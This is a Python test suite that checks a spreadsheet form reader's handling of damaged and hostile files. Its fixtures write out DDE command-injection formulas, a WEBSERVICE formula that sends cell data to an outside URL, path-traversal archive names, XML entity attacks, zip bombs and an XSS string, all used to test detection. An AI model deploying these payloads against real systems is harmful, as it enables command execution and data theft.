"""Damaged and hostile files: each gets one clear message that names the file and says what to do, in bounded time and memory."""

import os
import random
import subprocess
import sys
import time
import tracemalloc

import pytest
from forms import damage as d
from forms.sent_files import FILES, criteria, grid, points_of, zipped

from analysis.forms import reading
from analysis.forms.numbers import NOT_A_NUMBER, number
from analysis.paths import SOURCE

ACTIONS = ("Hãy", "Nên", "Nếu", "Lần sau")
WRITER = {"mimetype": "application/vnd.oasis.opendocument.text"}
ENCRYPTED = {"META-INF/manifest.xml": "<m><encryption-data/></m>"}

CASES = {
    # name: (rule, maker of the file)
    "no such file": ("file_missing", lambda folder: folder / "khong-co.xlsx"),
    "a folder": ("file_unreadable", lambda folder: (folder / "bieu.xlsx").mkdir() or folder / "bieu.xlsx"),
    "a pipe": ("file_unreadable", lambda folder: os.mkfifo(folder / "bieu.xlsx") or folder / "bieu.xlsx"),
    "empty": ("file_empty", d.saved("bieu.xlsx", b"")),
    "only blanks": ("file_empty", d.saved("bieu.csv", b"\xef\xbb\xbf \r\n\r\n")),
    "only zero bytes": ("file_empty", d.saved("bieu.xlsx", b"\x00" * 4096)),
    "lock of Excel": ("lock_file", d.saved("~$bieu.xlsx", b"\x05Admin" + b" " * 160)),
    "lock of LibreOffice": ("lock_file", d.saved(".~lock.bieu.ods#", b",admin,may-tinh,;")),
    "unknown ending": ("unknown_ending", d.saved("bieu.pdf", b"%PDF-1.7 ...")),
    "no ending": ("unknown_ending", d.of_good("bieu")),
    "ending of a macro workbook": ("macros", d.of_good("bieu.xlsm")),
    "macro hidden in .xlsx": ("macros", d.added({"xl/vbaProject.bin": b"\xd0\xcf"})),
    "old macro sheet": ("macros", d.added({"xl/macrosheets/sheet1.xml": b"<m/>"})),
    "macro in .ods": ("macros", d.saved("bieu.ods", d.ods("", {"Basic/Standard/Module1.xml": "<m/>"}))),
    "macro in .xls": ("macros", d.saved("bieu.xls", d.ole("Workbook", "_VBA_PROJECT_CUR"))),
    "renamed Word file": ("other_kind", d.saved("bieu.xlsx", zipped({"word/document.xml": "<w/>"}))),
    "renamed PowerPoint file": ("other_kind", d.saved("bieu.xlsx", zipped({"ppt/presentation.xml": "<p/>"}))),
    "renamed old Word file": ("other_kind", d.saved("bieu.xls", d.ole("WordDocument"))),
    "renamed Writer file": (
        "other_kind",
        d.saved("bieu.ods", d.ods("", WRITER)),
    ),
    "renamed zip": ("other_kind", d.saved("bieu.xlsx", zipped({"a.txt": "a"}))),
    "renamed PDF": ("other_kind", d.saved("bieu.xlsx", b"%PDF-1.4 abc")),
    "renamed picture": ("other_kind", d.saved("bieu.xlsx", b"\x89PNG\r\n\x1a\n" + bytes(200))),
    "renamed program": ("other_kind", d.saved("bieu.csv", b"MZ\x90\x00" + bytes(200))),
    "web page as .xls": ("other_kind", d.saved("bieu.xls", d.HTML)),
    "web page as .csv": ("other_kind", d.saved("bieu.csv", b"\xef\xbb\xbf" + d.HTML)),
    "plain text as .xlsx": ("other_kind", d.saved("bieu.xlsx", "Điểm;1".encode())),
    "random bytes as .xlsx": ("other_kind", d.saved("bieu.xlsx", b"\x8a\x01" + random.Random(1).randbytes(5000))),
    "random bytes as .csv": ("not_utf8", d.saved("bieu.csv", b"\x8a\x9f" + bytes(range(128, 256)) * 20)),
    "truncated at a tenth": ("broken_file", d.truncated(0.1)),
    "truncated at a half": ("broken_file", d.truncated(0.5)),
    "truncated at the end": ("broken_file", d.truncated(0.98)),
    "only the signature of a zip": ("broken_file", d.saved("bieu.xlsx", b"PK\x03\x04")),
    "wrong checksum": ("broken_file", d.of_good("bieu.xlsx", d.flipped)),
    "two parts of one name": ("broken_file", d.two_parts_of_one_name),
    "sheet is no XML": ("broken_file", d.changed(lambda part: part[: len(part) // 2])),
    "sheet in UTF-16": ("broken_file", d.changed(lambda part: part.decode().encode("utf-16"))),
    "list of sheets is missing": ("broken_file", d.without("xl/_rels/workbook.xml.rels")),
    "truncated .xls": ("broken_file", d.real("xls", lambda content: content[:2000])),
    "only the signature of .xls": ("broken_file", d.saved("bieu.xls", d.ole("Workbook")[:100])),
    ".xls that runs in a circle": ("broken_file", d.saved("bieu.xls", d.circular_ole())),
    ".xls without a workbook": ("broken_file", d.saved("bieu.xls", d.ole("Something"))),
    ".xls with an empty workbook": ("broken_file", d.saved("bieu.xls", d.ole("Workbook"))),
    "encrypted .xlsx": ("password", d.saved("bieu.xlsx", d.ole("EncryptionInfo", "EncryptedPackage"))),
    "encrypted .ods": ("password", d.saved("bieu.ods", d.ods("", ENCRYPTED))),
    "zip with a password": ("password", d.of_good("bieu.xlsx", d.locked)),
    "zip bomb": ("unpacks_too_large", d.changed(d.blanks_before_the_rows)),
    "zip bomb in many parts": ("unpacks_too_large", d.added(d.MANY_LARGE_PARTS)),
    "zip bomb that lies": ("unpacks_too_large", d.lying_bomb),
    "thousands of parts": ("unpacks_too_large", d.added(d.THOUSANDS_OF_PARTS)),
    "name with ../": ("unsafe_name", d.added({"../../etc/cron.d/x": b"x"})),
    "absolute name": ("unsafe_name", d.added({"/etc/passwd": b"x"})),
    "XML entities": ("xml_entities", d.changed(d.entities)),
    "XML entity of a file": ("xml_entities", d.changed(d.outside_entity, d.BOOK)),
    "formula that starts a program": ("active_formula", d.with_cell(("=cmd|'/C calc.exe'!A0", 1))),
    "formula that fetches": ("active_formula", d.with_cell(('=WEBSERVICE("http://example.vn/"&A1)', 1))),
    "formula in small letters": ("active_formula", d.with_cell(('=webservice("http://example.vn/")', 1))),
    "formula spelt in numbers": ("active_formula", d.changed(d.formula_in_numbers)),
    "named formula": ("active_formula", d.changed(d.named_formula, d.BOOK)),
    "text that starts a program": ("active_formula", d.with_cell("=cmd|'/C calc'!A0")),
    "CSV that starts a program": ("active_formula", d.as_csv([["9", "@SUM(1+1)*cmd|'/C calc'!A0"]])),
    "link to a program": ("active_formula", d.added(d.link(b"ddeLink"))),
    "formula in .ods": ("active_formula", d.saved("bieu.ods", d.CALLING_ODS)),
    "a cell at the end of the sheet": ("sheet_too_large", d.changed(d.far_cell("XFD20000"))),
    "row and cell that differ": ("sheet_too_large", d.changed(d.row_and_cell_that_differ)),
    "cells without names": ("sheet_too_large", d.changed(d.cells_without_names)),
    "repeated rows of .ods": ("sheet_too_large", d.saved("bieu.ods", d.REPEATED_ROWS)),
    "too many sheets": ("too_many_sheets", d.with_cells(list, more={f"Trang {n}": [["x"]] for n in range(150)})),
    "CSV of another encoding": ("not_utf8", d.as_csv(encoding="utf-16-be")),
    "CSV with zero bytes": ("not_text", d.saved("bieu.csv", b"STT;Ti\x00eu chi;Diem toi da\n1;a;2")),
    "half a letter of UTF-16": ("not_utf8", d.saved("bieu.csv", b"\xff\xfeS")),
    "no cell filled": ("workbook_empty", d.with_cells(lambda cells: [])),
    "no table": ("no_table", d.with_cells(lambda cells: [["Kính gửi"], ["Sở Nội vụ"]])),
    "only a heading": ("no_rows", d.with_cells(lambda cells: cells[:5])),
    "heading twice": ("heading_twice", d.with_cells(d.two_self_points)),
    "TCVN3": ("legacy_font", d.with_cells(d.in_tcvn3)),
    "VNI": ("legacy_font", d.with_cells(d.in_vni)),
    "TCVN3 even in the heading": ("legacy_font", d.with_cells(d.wholly_in_tcvn3)),
    "encoded twice": ("twice_encoded", d.with_cells(d.encoded_twice)),
    "letters lost": ("letters_lost", d.with_cells(d.letters_lost)),
    "split in sheets": ("several_tables", d.split_in_sheets),
    "two drafts": ("second_table", d.with_cells(list, more={"Biểu 1 (2)": grid()})),
    "hidden table": ("hidden_sheet", d.hidden_table),
    "failed formula": ("failed_cells", d.with_cell(("=1/0", "#DIV/0!"))),
    "formula without a value": ("formula_without_value", d.no_saved_value),
    "very long cell": ("cell_too_long", d.as_csv([["2.3", "x" * 50_000]])),
    "links to other files": ("external_links", d.added(d.link(b"externalBook"))),
    "wrong ending": ("ending_differs", d.of_good("bieu.xls")),
}

READ = {
    # name: (maker of the file, what the first leaf has for its points)
    "nearly a million blank rows": (d.changed(d.blank_rows), 0.5),
    "a dimension that lies": (d.changed(d.false_dimension), 0.5),
    "a cell at the last row of all": (d.changed(d.far_cell("A1048576")), 0.5),
    "ten thousand columns": (d.with_cells(d.wide), 0.5),
    "merged areas in circles": (d.changed(d.merged_in_circles), 0.5),
    "a sheet without a name": (d.changed(d.without_name, d.BOOK), 0.5),
    "infinity for points": (d.changed(d.with_value(b"1e999")), float("inf")),
    "minus nothing for points": (d.changed(d.with_value(b"-0")), 0.0),
    "true for points": (d.with_cell(True), True),
    "a date for points": (d.with_cell(d.FIRST_OF_MAY), d.FIRST_OF_MAY),
    "text for points": (d.with_cell("một"), "một"),
    "a failed formula for points": (d.with_cell(("=1/0", "#DIV/0!")), "#DIV/0!"),
    "HTML in an explanation": (d.with_cell("<script>alert(1)</script>", d.EXPLANATION), 0.5),
    "HTML in the name of the unit": (d.with_cell("Sở <b onload=x>Tư pháp</b>", 0, 1), 0.5),
    "a formula as text": (d.with_cell("=1+1", d.EXPLANATION), 0.5),
    "a long text": (d.with_cell("a" * 32_000, d.EXPLANATION), 0.5),
    "CSV with commas": (d.as_csv(mark=","), "0.5"),
    "CSV with tabs in UTF-16": (d.as_csv(mark="\t", encoding="utf-16"), "0.5"),
    "CSV without a mark of its encoding": (d.as_csv(encoding="utf-8"), "0.5"),
    "an .xls of LibreOffice": (d.real("xls"), 1.0),
    "an .ods of LibreOffice": (d.real("ods"), 1.0),
}


def bounded(path):
    """Read a file within 20 seconds and 600 MB of what Python holds."""
    tracemalloc.start()
    began = time.monotonic()
    form = reading.read(path, [criteria()])
    spent, (_, most) = time.monotonic() - began, tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert spent < 20 and most < 600 * 2**20
    return form


@pytest.mark.parametrize("name", CASES)
def test_each_bad_file_gets_one_clear_message(name, tmp_path):
    rule, make = CASES[name]
    path = make(tmp_path)
    form = bounded(path)
    found = [one for one in form.problems if one.rule == rule]
    assert len(found) == 1, [one.rule for one in form.problems]
    (message,) = found
    assert path.name in message.message_vi and path.name in message.message_en
    assert any(action in message.message_vi for action in ACTIONS)
    errors = [one.rule for one in form.problems if one.severity == "error"]
    assert errors == ([rule] if message.severity == "error" else [])


@pytest.mark.parametrize("name", READ)
def test_each_odd_file_is_read_as_it_stands(name, tmp_path):
    make, expected = READ[name]
    form = bounded(make(tmp_path))
    found = points_of(form)["1.1"]
    assert found == expected and type(found) is type(expected)
    assert not [one for one in form.problems if one.severity == "error"]


def test_a_number_that_is_none_stays_none(tmp_path):
    found = points_of(bounded(d.changed(d.with_value(b"NaN"))(tmp_path)))["1.1"]
    assert found != found and number(found) is NOT_A_NUMBER


@pytest.mark.parametrize("ending", ["xls", "ods", "xlsx"])
def test_bytes_changed_at_random_never_stop_the_reading(ending, tmp_path):
    source = d.good(tmp_path) if ending == "xlsx" else FILES / f"bieu-so-tu-phap.{ending}"
    content, chance = source.read_bytes(), random.Random(7)
    for _ in range(150):
        damaged = bytearray(content[: chance.choice([len(content), chance.randrange(1, len(content))])])
        for _ in range(chance.choice([1, 5, 40])):
            damaged[chance.randrange(len(damaged))] = chance.randrange(256)
        form = reading.read(d.saved(f"bieu.{ending}", bytes(damaged))(tmp_path), [])
        assert form.rows or form.problems


def test_a_damaged_xls_leaves_the_terminal_quiet(tmp_path):
    path = d.real("xls", lambda content: content[:4700] + b"\xff" * (len(content) - 4700))(tmp_path)
    command = f"from analysis.forms import reading; print(reading.read({str(path)!r}, []).problems[0].rule)"
    surroundings = {**os.environ, "PYTHONPATH": str(SOURCE.parent)}
    done = subprocess.run([sys.executable, "-c", command], capture_output=True, text=True, env=surroundings)
    assert done.stderr == "" and done.stdout
